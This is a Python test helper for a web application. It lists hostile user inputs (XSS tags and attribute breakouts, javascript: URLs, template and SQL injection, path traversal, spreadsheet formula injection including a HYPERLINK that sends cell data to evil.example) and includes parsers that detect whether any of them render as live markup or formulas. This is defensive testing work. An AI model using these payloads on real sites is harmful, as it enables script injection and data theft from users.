"""Hostile words that people could type, for every test that sends text in and reads it again somewhere else.

Each holds MARK, and each tag, handler or address in it holds MARK too: whatever of it comes alive can be told from ours.
Scripts in them add 1 to `ran`, which a browser test counts.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from io import BytesIO, StringIO
from zipfile import ZipFile, is_zipfile

import tinyhtml5

MARK = "zqx"

TAGS = (
    "<script>ran++/*zqx*/</script>",
    "<ScRiPt zqx>ran++</sCrIpT>",
    '<script src="//evil.example/zqx.js"></script>',
    "<img src=x zqx onerror=ran++>",
    "<img src=x:zqx onerror=ran++//",
    "<svg zqx onload=ran++>",
    "<svg><script zqx>ran++</script></svg>",
    "<svg><animate zqx onbegin=ran++ attributeName=x dur=1s>",
    "<svg/onload=ran++/zqx>",
    "<body zqx onload=ran++>",
    "<details open zqx ontoggle=ran++>",
    "<input autofocus zqx onfocus=ran++>",
    "<video zqx><source onerror=ran++ zqx></video>",
    "<iframe zqx srcdoc='<script>ran++</script>'></iframe>",
    "<object zqx data=javascript:ran++></object>",
    "<embed zqx src=javascript:ran++>",
    "<base href=//evil.example/zqx/>",
    "<meta http-equiv=refresh zqx content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/zqx.css>",
    "<style>@import '//evil.example/zqx.css';</style>",
    "<form zqx action=//evil.example/><button>Sign in</button></form>",
    "<button zqx formaction=javascript:ran++>Save</button>",
    "<a zqx href=javascript:ran++>Read more</a>",
    "<a zqx hx-get=/ hx-trigger=load hx-on:load=ran++>x</a>",
    "<p zqx style=position:fixed;inset:0>Cover the page</p>",
    "<marquee zqx onstart=ran++>",
)
BREAKING_OUT = (
    '" zqx onmouseover=ran++ x="',
    "' zqx onfocus='ran++' autofocus='",
    "` zqx onclick=ran++ `",
    '"><script>ran++/*zqx*/</script>',
    "'><img zqx src=x onerror=ran++>",
    "</title><script>ran++/*zqx*/</script>",
    "</textarea><svg zqx onload=ran++>",
    "</script><script>ran++/*zqx*/</script>",
    "--><img zqx src=x onerror=ran++><!--",
    "]]><svg zqx onload=ran++>",
    "</style><img zqx src=x onerror=ran++>",
    "<noscript><p title='</noscript><img zqx src=x onerror=ran++>'>",
    "<math><mtext><table><mglyph><style><img zqx src=x onerror=ran++>",
    "&lt;script&gt;ran++/*zqx*/&lt;/script&gt;",
    "&#60;img zqx src=x onerror=ran++&#62;",
    "\\u003cimg zqx src=x onerror=ran++\\u003e",
    "\\';ran++;//zqx",
    "+ADw-script zqx+AD4-ran++",
    "＜script＞ran++/*zqx*/＜/script＞",
)
ADDRESSES = (
    "javascript:ran++//zqx",
    "JaVaScRiPt:ran++//zqx",
    "java&#10;script:ran++//zqx",
    "data:text/html,<script>ran++//zqx</script>",
    "vbscript:ran++'zqx",
    "//evil.example/zqx",
)
TEMPLATES = (
    "{{ 7|add:35 }} zqx",
    "{% load static %}{% debug %} zqx",
    "{{constructor.constructor('ran++')()}} zqx",
    "${7*7} #{7*7} <%= 7*7 %> zqx",
    "%(name)s %s %d %n zqx",
    "{0.__class__.__mro__} {name!r} zqx",
)
ODD_TEXT = (
    "zqx " + "Z̷̢̧̛a̴̡̛l̵̢g̶̨o̸̡" * 2,
    "zqx" + "w" * 100,  # one word without a place to break
    "zqx\u200b\u200d\ufeff hidden",
    "zqx\u2028line\u2029paragraph",
    "zqx مرحبا \u2067שלום\u2069 👩🏽‍🦽",
    "zqx '; DROP TABLE teams_team; --",
    "../../../../etc/passwd%00zqx",
    "zqx\\",
)
# What a spreadsheet would work out. A tab or CR before one does not save it.
FORMULAS = (
    "=cmd|' /C calc'!A0 zqx",
    "=1+1 zqx",
    '=HYPERLINK("https://evil.example/?"&A1,"zqx")',
    "+1+1 zqx",
    "-1+1 zqx",
    "@SUM(1+1) zqx",
    "\t=1+1 zqx",
    "\r=1+1 zqx",
    "＝1+1 zqx",
)
# What may be neither kept nor shown: control characters, and marks that turn the rest of a line round.
REFUSED = ("zqx\x00end", "zqx\x1b[2J", "zqx\x08back", "zqx\x7f", "zqx\x85next", "zqx \u202egpj.exe", "zqx \u202dover")

CORPUS = (*TAGS, *BREAKING_OUT, *ADDRESSES, *TEMPLATES, *ODD_TEXT, *FORMULAS)
# One that gets out of most places at once; and one short enough for every box.
POLYGLOT = "'\"></title></textarea><img zqx src=x onerror=ran++>"
BRIEF = "'\"><svg zqx onload=ran++>"

FIRST_OF_FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HOLDS_ADDRESS = {"href", "src", "action", "formaction", "data", "poster", "srcset", "ping", "background", "hx-post"}
# Attributes whose value is words for people, and nothing else.
HOLDS_WORDS = {"value", "title", "alt", "placeholder", "aria-label", "content", "data-title", "data-organisation"}
OUR_ADDRESS = re.compile(r"^(?!//)(mailto:[^\s<>\"']*|(/(?!/)|[#?])[-\w/?=&;%.~#+:@]*|[-\w/?=&%.]*)$")
TOKEN = re.compile(r"\b[A-Za-z0-9]{64}\b")  # of a form, as Django makes them
RUNS = re.compile(r"^\W*(javascript|vbscript|data:text)", re.I)


def alive(page: str) -> Iterator[str]:
    """What of the corpus an HTML page holds as anything but words: elements, attributes, scripts, addresses.

    Tokens are taken out before: a random one can hold MARK.
    """
    for element in tinyhtml5.parse(TOKEN.sub("", page)).iter():
        if not isinstance(element.tag, str):
            if MARK in (element.text or ""):
                yield f"in a comment: {element.text}"
            continue
        tag = element.tag.rpartition("}")[2].lower()
        if MARK in tag:
            yield f"an element: {tag}"
        if tag in ("script", "style") and MARK in (element.text or "") and element.get("type") != "application/json":
            yield f"in a {tag}: {(element.text or '')[:60]}"
        for name, value in element.attrib.items():
            if name != "hx-headers" and _is_alive(str(name).rpartition("}")[2].lower(), value):
                yield f"an attribute: {tag} {name}={value[:60]}"


def _is_alive(name: str, value: str) -> bool:
    if MARK in name or name.startswith("on") or (name in HOLDS_ADDRESS and RUNS.match(value)):
        return True
    if MARK not in value or name in HOLDS_WORDS:
        return False
    return not OUR_ADDRESS.match(value)


def words_shown(page: str) -> str:
    """Every word of an HTML page that a reader meets: its text, and the values of its boxes. Spaces made one."""
    parts: list[str] = []
    for element in tinyhtml5.parse(page).iter():
        if isinstance(element.tag, str):
            parts += [value for name, value in element.attrib.items() if str(name) in HOLDS_WORDS]
            parts.append(element.text or "")
        parts.append(element.tail or "")
    return squeezed(" ".join(parts))


def squeezed(words: str) -> str:
    """The words with each stretch of spaces made one."""
    return " ".join(words.split())


def live_cells(content: bytes) -> list[str]:
    """The cells of a CSV file, or of those in a zip, that a spreadsheet would work out as formulas."""
    if is_zipfile(BytesIO(content)):
        with ZipFile(BytesIO(content)) as archive:
            return [
                cell for name in archive.namelist() if name.endswith(".csv") for cell in live_cells(archive.read(name))
            ]
    rows = csv.reader(StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row if cell.lstrip(" ").startswith(FIRST_OF_FORMULA) and not _number(cell)]


def _number(cell: str) -> bool:
    return re.fullmatch(r"[-+]?\d+(\.\d+)?", cell) is not None
